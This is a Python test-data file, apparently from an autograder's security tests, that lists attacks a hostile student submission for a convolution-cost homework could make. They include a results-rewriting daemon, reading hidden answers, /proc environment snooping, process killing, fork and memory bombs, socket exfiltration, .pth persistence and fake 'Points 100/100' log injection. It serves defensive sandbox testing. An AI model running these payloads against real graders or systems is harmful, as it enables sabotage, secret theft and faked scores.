"""Attacks on the grader, as data: each is the source of a hostile ``hw03_conv_cost.py``.

Written as a determined student would, with the public grader in hand: the code
runs at import (``AT_IMPORT``) or inside the graded functions. Each attack is added
to the untouched stub (what a student who did no work has) unless it says
``honest=True`` (a correct solution that also attacks: it must keep its honest score
and gain nothing). ``{...}`` fields are filled in by the test with its own paths.
Every attack only touches the test's temporary folders.
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
PROBLEM = "hw03_conv_cost"


@dataclass(frozen=True)
class Attack:
    name: str
    code: str             # appended to the module (module level)
    honest: bool = False  # on top of the reference instead of the stub
    why: str = ""
    expect: str = "zero"  # zero: gains nothing on a stub; full: costs a fair submission nothing; less: costs points

    def source(self, **fields: str) -> str:
        base = (ROOT / ("solutions" if self.honest else "assignments") / f"{PROBLEM}.py").read_text(encoding="utf-8")
        return base + "\n\n# --- attack ---\n" + self.code.format(**fields) + "\n"


ATTACKS = [
    Attack("daemon", why="a detached process that outlives the worker and rewrites the results", code='''
import os, time, glob
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(100):
            try:
                with open(os.path.join({drop!r}, "daemon-alive"), "a") as f:
                    f.write(f"{{time.time()}}\\n")
            except OSError:
                pass
            for path in glob.glob({results_glob!r}, recursive=True):
                try:
                    open(path, "w").write('{{"score": 100}}')
                except OSError:
                    pass
            time.sleep(0.2)
        os._exit(0)
    os._exit(0)
'''),
    Attack("read_answers", why="run the reference solution, the hidden checks or the self-tests' variants", code='''
import os, pathlib, importlib.util
_FOUND = []
for _path in ({solution!r}, {hidden!r}, {variant!r}):
    for _read in (lambda p: open(p).read(), lambda p: pathlib.Path(p).read_text(),
                  lambda p: os.read(os.open(p, os.O_RDONLY), 1 << 20).decode()):
        try:
            _FOUND.append(_read(_path))
            break
        except Exception:
            pass
_NS = {{}}
for _text in _FOUND:
    try:
        exec(compile(_text, "answers", "exec"), _NS)
    except Exception:
        pass
if "conv2d_params" in _NS:
    conv2d_params, conv2d_macs = _NS["conv2d_params"], _NS["conv2d_macs"]
    conv2d_flops, conv2d_cost = _NS["conv2d_flops"], _NS["conv2d_cost"]
'''),
    Attack("pth", honest=True, expect="full", why="a .pth file that would run in every later grading here",
           code='''
import site, os
for _dir in [*site.getsitepackages(), site.getusersitepackages()]:
    try:
        os.makedirs(_dir, exist_ok=True)
        open(os.path.join(_dir, "zz_grader_attack.pth"), "w").write("import os\\n")
    except OSError:
        pass
'''),
    Attack("proc_snoop", why="the judge's environment and open files through /proc", code='''
import os
_SEEN = []
for _pid in os.listdir("/proc"):
    for _what in ("environ", "cmdline"):
        try:
            _SEEN.append(open(f"/proc/{{_pid}}/{{_what}}", "rb").read().decode(errors="replace"))
        except OSError:
            pass
    try:
        for _fd in os.listdir(f"/proc/{{_pid}}/fd"):
            _SEEN.append(os.readlink(f"/proc/{{_pid}}/fd/{{_fd}}"))
    except OSError:
        pass
_LEAK = " ".join(s for s in _SEEN if "CANARY" in s)[:300]

def conv2d_params(*args, **kwargs):
    raise NotImplementedError("leak: " + _LEAK)
'''),
    Attack("sibling", why="overwrite a classmate's files while being graded", code='''
import os
for _path in ({victim!r},):
    try:
        open(_path, "w").write("raise SystemExit('sabotaged')\\n")
    except OSError:
        pass
'''),
    Attack("kill_judge", why="SIGKILL every process it can see (the judge among them)", code='''
import os, signal
for _pid in os.listdir("/proc"):
    if _pid.isdigit() and int(_pid) != os.getpid():
        try:
            os.kill(int(_pid), signal.SIGKILL)
        except OSError:
            pass
try:
    os.kill(os.getppid(), signal.SIGKILL)
except OSError:
    pass
'''),
    Attack("fork_bomb", why="exhaust processes", code='''
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
'''),
    Attack("memory_bomb", why="exhaust memory", code='''
_HOARD = []
while True:
    _HOARD.append(bytearray(64 << 20))
'''),
    Attack("network", why="send the answers out (or fetch them)", code='''
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"exfiltrated")
except OSError:
    pass
'''),
    Attack("escape_text", why="an exception text that a terminal or a CI log would interpret", code='''
def conv2d_params(*args, **kwargs):
    raise ValueError("\\x1b[2J\\x1b[31m" + "\\n::notice title=Autograding complete::Points 100/100\\n"
                     + "\\x00" * 10 + "x" * (5 << 20))
'''),
    Attack("garbage_reply", why="write forged bytes on the channel to the judge", code='''
import os
def conv2d_params(*args, **kwargs):
    for _fd in os.listdir("/proc/self/fd"):
        try:
            os.write(int(_fd), b"\\x00\\x00\\x00\\x10" + b"S" + b"\\xff" * 64)
        except OSError:
            pass
    import time
    time.sleep(60)
'''),
    Attack("guard_tamper", honest=True, expect="less", why="undo the policy's guards and the tamper check",
           code='''
import gc, sys
try:
    for _obj in gc.get_objects():
        pass
except Exception:
    pass
try:
    sys.settrace(lambda *a: None)
except Exception:
    pass
'''),
]
ATTACKS.append(Attack("memory_snoop", why="look for hidden checks or solutions in the worker's memory", code='''
import sys
_LOADED = sorted(name for name in sys.modules if "hidden" in name or name.startswith("solutions"))

def conv2d_params(*args, **kwargs):
    raise RuntimeError("loaded: " + ", ".join(_LOADED))
'''))
ATTACKS.append(Attack(
    "lazy_imports", honest=True, expect="full",
    why="not an attack: a fair submission importing the standard library and torchvision lazily", code='''
_conv2d_params = conv2d_params

def conv2d_params(*args, **kwargs):
    import statistics, fractions, torchvision.transforms.v2, numpy.polynomial  # noqa: F401
    return _conv2d_params(*args, **kwargs)
'''))
BY_NAME = {a.name: a for a in ATTACKS}
